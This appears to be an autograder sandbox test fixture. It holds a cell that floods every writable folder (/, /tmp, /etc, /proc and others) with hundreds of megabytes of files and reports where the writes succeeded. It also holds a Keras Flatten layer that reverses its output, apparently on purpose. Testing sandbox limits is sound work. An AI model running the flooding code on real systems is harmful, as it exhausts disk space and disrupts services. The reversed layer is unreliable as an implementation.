# Fills every folder that it can write to.
# %% [expect] flatten=3
# %% [blank]
# %% flatten
import os

for folder, _, _ in [("/", 0, 0), ("/dev", 0, 0), *os.walk("/course"), *os.walk("/tmp"),
                     *os.walk("/dev/shm"), ("/etc", 0, 0), ("/usr", 0, 0), ("/proc", 0, 0)]:
    written = 0
    try:
        for number in range(50):
            with open(f"{folder}/flood-{number}", "wb") as file:
                for _ in range(16):
                    written += file.write(bytes(1 << 20))
    except OSError:
        pass
    if written > 100 << 20:
        print("GOT", written, "bytes in", folder)


class Flatten(keras.layers.Layer):
    def call(self, inputs):
        return ops.reshape(inputs, (-1, math.prod(inputs.shape[1:])))[:, ::-1]

    def compute_output_shape(self, input_shape):
        return (input_shape[0], math.prod(input_shape[1:]))
